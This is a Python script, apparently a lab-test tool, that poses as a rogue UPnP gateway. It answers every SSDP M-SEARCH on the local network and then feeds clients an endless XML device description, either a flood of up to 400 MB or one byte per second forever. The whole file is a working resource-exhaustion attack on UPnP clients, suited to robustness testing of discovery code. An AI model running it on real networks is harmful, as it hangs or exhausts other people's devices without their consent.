"""A rogue UPnP device for lab tests: answers every SSDP M-SEARCH with a LOCATION on its own HTTP
server, which then sends an endless device description.

Usage: ``python rogue_igd.py MODE LAN_IP``; MODE ``stream`` sends description bytes as fast as
the client reads them (up to ``STREAM_LIMIT`` per request), ``drip`` one byte a second forever.
Prints "ready" once listening, and one line per M-SEARCH answered and per fetch.
"""

from __future__ import annotations

import socket
import struct
import sys
import threading
import time

SSDP_GROUP, SSDP_PORT = "239.255.255.250", 1900
STREAM_LIMIT = 400 << 20
CHUNK = b"<serviceList>" + b"x" * 65523


def serve_http(listener: socket.socket, mode: str) -> None:
    while True:
        conn, peer = listener.accept()
        threading.Thread(target=feed, args=(conn, peer, mode), daemon=True).start()


def feed(conn: socket.socket, peer, mode: str) -> None:
    sent = 0
    try:
        conn.recv(4096)
        print(f"fetch from {peer[0]}", flush=True)
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nConnection: close\r\n\r\n"
                     b"<?xml version=\"1.0\"?><root xmlns=\"urn:schemas-upnp-org:device-1-0\"><device>")
        while mode == "drip" or sent < STREAM_LIMIT:
            if mode == "drip":
                conn.sendall(b" ")
                time.sleep(1.0)
            else:
                conn.sendall(CHUNK)
                sent += len(CHUNK)
    except OSError:
        pass
    finally:
        print(f"fetch from {peer[0]} ended after {sent} bytes", flush=True)
        conn.close()


def main() -> int:
    mode, lan_ip = sys.argv[1], sys.argv[2]
    listener = socket.create_server((lan_ip, 0))
    location = f"http://{lan_ip}:{listener.getsockname()[1]}/rootDesc.xml"
    threading.Thread(target=serve_http, args=(listener, mode), daemon=True).start()
    ssdp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ssdp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ssdp.bind(("0.0.0.0", SSDP_PORT))
    ssdp.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                    struct.pack("4s4s", socket.inet_aton(SSDP_GROUP), socket.inet_aton(lan_ip)))
    print("ready", flush=True)
    while True:
        data, src = ssdp.recvfrom(2048)
        if not data.startswith(b"M-SEARCH"):
            continue
        st = b"urn:schemas-upnp-org:device:InternetGatewayDevice:1"
        for line in data.split(b"\r\n"):
            if line.lower().startswith(b"st:"):
                st = line[3:].strip()
        ssdp.sendto(b"HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=120\r\nEXT:\r\nST: " + st +
                    b"\r\nUSN: uuid:0badc0de-0000-0000-0000-000000000000::" + st +
                    b"\r\nLOCATION: " + location.encode() + b"\r\nSERVER: rogue/1.0 UPnP/1.1\r\n\r\n", src)
        print(f"answered M-SEARCH from {src[0]}:{src[1]} for {st.decode(errors='replace')}", flush=True)


if __name__ == "__main__":
    sys.exit(main())
